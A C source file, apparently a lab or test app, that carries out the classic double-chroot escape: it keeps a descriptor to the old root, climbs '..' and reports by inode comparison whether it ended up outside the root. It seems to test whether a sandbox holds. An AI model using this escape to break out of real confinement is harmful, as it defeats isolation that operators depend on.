/*
 * escape: the classic way out of a chroot(2): a second chroot while the working directory stays
 * outside the new root; ".." is then no longer stopped. After pivot_root(2) there is nothing to reach.
 */
#define _GNU_SOURCE
#include "lab-apps.h"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

static int failed(const char *call)
{
	printf("%s: %s\n", call, strerror(errno));
	return 1;
}

int app_escape(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	struct stat before, after;
	if (stat("/", &before) < 0)
		return failed("stat /");
	if (mkdir("/.out", 0700) < 0 && errno != EEXIST)
		return failed("mkdir /.out");
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (root < 0)
		return failed("open /");
	int left = chroot("/.out");
	if (left < 0) {
		int result = failed("chroot /.out");
		rmdir("/.out");
		return result;
	}
	if (fchdir(root) < 0)
		return failed("fchdir");
	rmdir(".out");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return failed("chdir ..");
	if (chroot(".") < 0)
		return failed("chroot .");
	if (stat("/", &after) < 0)
		return failed("stat /");
	int same = before.st_dev == after.st_dev && before.st_ino == after.st_ino;
	printf("root before: inode %llu, after: inode %llu: %s\n", (unsigned long long)before.st_ino,
		(unsigned long long)after.st_ino, same ? "still inside" : "outside");
	return same ? 1 : 0;
}
